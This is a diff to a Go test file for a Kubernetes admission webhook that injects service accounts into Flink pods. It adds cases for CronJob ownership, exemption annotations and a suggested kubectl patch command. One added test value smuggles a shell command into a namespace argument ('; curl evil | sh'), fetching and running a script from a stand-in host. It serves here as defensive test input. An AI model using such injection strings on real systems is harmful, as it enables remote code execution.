@@ -54,6 +54,8 @@ func TestMutate(t *testing.T) {
 		"a pod that is not Flink's":    {object: strings.Replace(own, "args: [taskmanager", "args: [serve", 1)},
 		"an object on its way out":     {object: strings.Replace(own, "{name: tm}", `{name: tm, deletionTimestamp: "2026-01-01T00:00:00Z"}`, 1)},
 		"something else owns it":       {object: strings.Replace(own, "{name: tm}", "{name: tm, ownerReferences: [{kind: FlinkDeployment, name: x, uid: u}]}", 1)},
+		"a CronJob owns it":            {object: strings.Replace(job, "{name: tm}", "{name: tm, ownerReferences: [{kind: CronJob, name: x, uid: u}]}", 1), want: added, wantAccount: "injected flink"},
+		"a namespace that is none":     {object: strings.Replace(own, "-Dkubernetes.namespace=team", `"-Dkubernetes.namespace=x; curl evil | sh #"`, 1)},
 		"the policy injects nothing":   {object: own, policy: func(p *policy.Policy) { p.ServiceAccounts.Inject = false }},
 		"only in labelled namespaces":  {object: own, policy: func(p *policy.Policy) { p.ServiceAccounts.LabelledNamespacesOnly = true }},
 		"an account of its own":        {object: withPod(own, "serviceAccountName: mine"), around: may("mine", "all"), wantAccount: "already-set mine"},
@@ -174,7 +176,11 @@ func TestMutateMountsTheToken(t *testing.T) {
 		"the pod says no, and so does the policy": {beside: configured, object: hardened, around: mine, wantAccount: "already-set mine"},
 		"the pod says no":                         {beside: configured, object: hardened, around: mine, policy: mounts, want: replace, wantAccount: "already-set mine"},
 		"the account says no":                     {beside: configured, object: own, around: without, policy: mounts, want: add, wantAccount: "already-set mine"},
-		"nobody says no":                          {beside: configured, object: own, around: mine, policy: mounts, wantAccount: "already-set mine"},
+		"the pod says no, and is exempt": {
+			beside: configured, around: mine, policy: mounts, wantAccount: "already-set mine",
+			object: strings.Replace(hardened, "{name: tm}", `{name: tm, annotations: {exempt.flink-ha.dev/service-account-token-not-mounted: "2026-12-31 it brings its own"}}`, 1),
+		},
+		"nobody says no": {beside: configured, object: own, around: mine, policy: mounts, wantAccount: "already-set mine"},
 		"the pod says no, and has no account": {
 			beside: configured, object: withPod(taskManager, "automountServiceAccountToken: false"), policy: mounts, wantAccount: "injected flink",
 			want: `[{"op":"add","path":"/spec/template/spec/serviceAccountName","value":"flink"},` + replace[1:],
@@ -184,7 +190,8 @@ func TestMutateMountsTheToken(t *testing.T) {
 	}
 	tc := accountCase{beside: configured, around: mine, policy: mounts}
 	decision, err := tc.reviewer(t).Mutate(update(t, hardened, strings.Replace(hardened, "spec: {template", "spec: {replicas: 3, template", 1)))
-	if err != nil || len(decision.Edits) > 0 || len(decision.Notes) != 1 {
+	const command = "kubectl -n team patch deployments tm --type json -p '" + replace + "'"
+	if err != nil || len(decision.Edits) > 0 || len(decision.Notes) != 1 || !strings.HasSuffix(decision.Notes[0], command) || len(decision.Notes[0]) > maxWarning {
 		t.Errorf("the template stays: got %+v and the notes %q, %v", decision.Edits, decision.Notes, err)
 	}
 }
